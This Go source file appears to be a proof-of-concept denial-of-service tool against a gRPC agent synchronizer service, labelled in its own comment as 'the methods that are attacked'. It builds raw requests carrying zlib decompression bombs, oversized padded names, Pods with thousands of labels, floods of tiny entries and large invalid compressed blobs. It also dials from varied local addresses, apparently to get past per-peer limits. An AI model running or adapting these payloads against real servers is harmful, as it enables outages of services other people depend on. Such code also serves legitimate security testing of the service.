package main

import (
	"bytes"
	"compress/zlib"
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/encoding"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"

	"github.com/pseudo-agent/pseudo-agent/protocol/agent"
)

// The methods that are attacked.
const (
	methodReport = "/agent.Synchronizer/KubernetesAPISync"
	methodSync   = "/agent.Synchronizer/Sync"
)

// dial returns a connection from an address of this machine. The server counts peers by their networks.
func dial(address, from string) *grpc.ClientConn {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 10 * time.Second}
	conn, err := grpc.NewClient("passthrough:///"+address, grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithDefaultCallOptions(grpc.MaxCallSendMsgSize(1<<31-1)),
		grpc.WithContextDialer(func(ctx context.Context, to string) (net.Conn, error) { return d.DialContext(ctx, "tcp", to) }))
	if err != nil {
		panic(err) // only of options that cannot be
	}
	return conn
}

// raw sends a request as it is.
func raw(ctx context.Context, conn *grpc.ClientConn, method string, body []byte) error {
	ctx, cancel := context.WithTimeout(ctx, 70*time.Second)
	defer cancel()
	var out []byte
	return conn.Invoke(ctx, method, body, &out, grpc.ForceCodec(rawCodec{})) //nolint:wrapcheck // it says everything
}

// rawCodec sends bytes as they are.
type rawCodec struct{}

var _ encoding.Codec = rawCodec{}

func (rawCodec) Name() string { return "proto" }

func (rawCodec) Marshal(v any) ([]byte, error) {
	b, ok := v.([]byte)
	if !ok {
		return nil, fmt.Errorf("%T", v)
	}
	return b, nil
}

func (rawCodec) Unmarshal([]byte, any) error { return nil }

// writers are used again: a new one costs more than what it compresses here.
var writers = sync.Pool{New: func() any { return zlib.NewWriter(nil) }}

func compress(parts ...[]byte) []byte {
	var b bytes.Buffer
	w, ok := writers.Get().(*zlib.Writer)
	if !ok {
		w = zlib.NewWriter(nil)
	}
	defer writers.Put(w)
	w.Reset(&b)
	for _, p := range parts {
		_, _ = w.Write(p) // to a buffer
	}
	_ = w.Close()
	return b.Bytes()
}

func entry(wireType, json string) *agent.KubernetesAPIInfo {
	return &agent.KubernetesAPIInfo{Type: new(wireType), CompressedInfo: compress([]byte(json))}
}

func versionEntry() *agent.KubernetesAPIInfo {
	return entry("*version.Info", `{"gitVersion":"v1.36.0"}`)
}

// entries encodes entries as a part of a report.
func entries(list ...*agent.KubernetesAPIInfo) []byte {
	b, err := proto.Marshal(&agent.KubernetesAPISyncRequest{Entries: list})
	if err != nil {
		panic(err) // only of a message that cannot be
	}
	return b
}

// report puts the head of a report before entries.
func reportOf(cluster string, entries []byte) []byte {
	head, err := proto.Marshal(&agent.KubernetesAPISyncRequest{
		ClusterId: new(cluster), Version: new(uint64(time.Now().UnixMicro())), AgentId: new(uint32(1)), SourceIp: new("10.9.9.9"),
	})
	if err != nil {
		panic(err) // as above
	}
	return append(head, entries...)
}

// bomb is an entry that becomes n MiB decompressed.
func bomb(mib int) *agent.KubernetesAPIInfo {
	parts := [][]byte{[]byte(`{"metadata":{"uid":"a","name":"b"},"x":"`)}
	for range mib {
		parts = append(parts, bytes.Repeat([]byte("A"), 1<<20))
	}
	return &agent.KubernetesAPIInfo{Type: new("*v1.Pod"), CompressedInfo: compress(append(parts, []byte(`"}`))...)}
}

// named are n Pods with names and namespaces of so many bytes.
func named(n, length int) []byte {
	list := []*agent.KubernetesAPIInfo{versionEntry()}
	pad := strings.Repeat("x", length)
	for i := range n {
		list = append(list, entry("*v1.Pod", fmt.Sprintf(`{"metadata":{"uid":"%d","name":"%d%s","namespace":"%d%s"}}`, i, i, pad, i, pad)))
	}
	return entries(list...)
}

// labelled are n Deployments whose Pods have so many labels each, which the inventory keeps one by one.
func labelled(n, labels int) []byte {
	list := []*agent.KubernetesAPIInfo{versionEntry(), entry("*v1.Namespace", `{"metadata":{"uid":"ns","name":"ns"}}`)}
	for i := range n {
		var l strings.Builder
		for k := range labels {
			fmt.Fprintf(&l, `,"l%d-%d":"v"`, i, k)
		}
		list = append(list, entry("*v1.Deployment", fmt.Sprintf(`{"metadata":{"uid":"d%d","name":"d%d","namespace":"ns"},"spec":{"template":{"metadata":{"labels":{%s}}}}}`, i, i, l.String()[1:])))
	}
	return entries(list...)
}

// tiny are n entries of the least size.
func tiny(n, seed int) []byte {
	list := []*agent.KubernetesAPIInfo{versionEntry()}
	for i := range n {
		list = append(list, entry("*a.B", fmt.Sprintf(`{"metadata":{"uid":"%d-%d","name":"1"}}`, seed, i)))
	}
	return entries(list...)
}

// junk is one entry of so many bytes that are no zlib.
func junk(mib int) []byte {
	b := make([]byte, mib<<20)
	for i := range b {
		b[i] = byte(i*7 + i>>8)
	}
	info := protowire.AppendBytes(protowire.AppendTag(protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), "*v1.Pod"), 3, protowire.BytesType), b)
	return protowire.AppendBytes(protowire.AppendTag(nil, 10, protowire.BytesType), info)
}
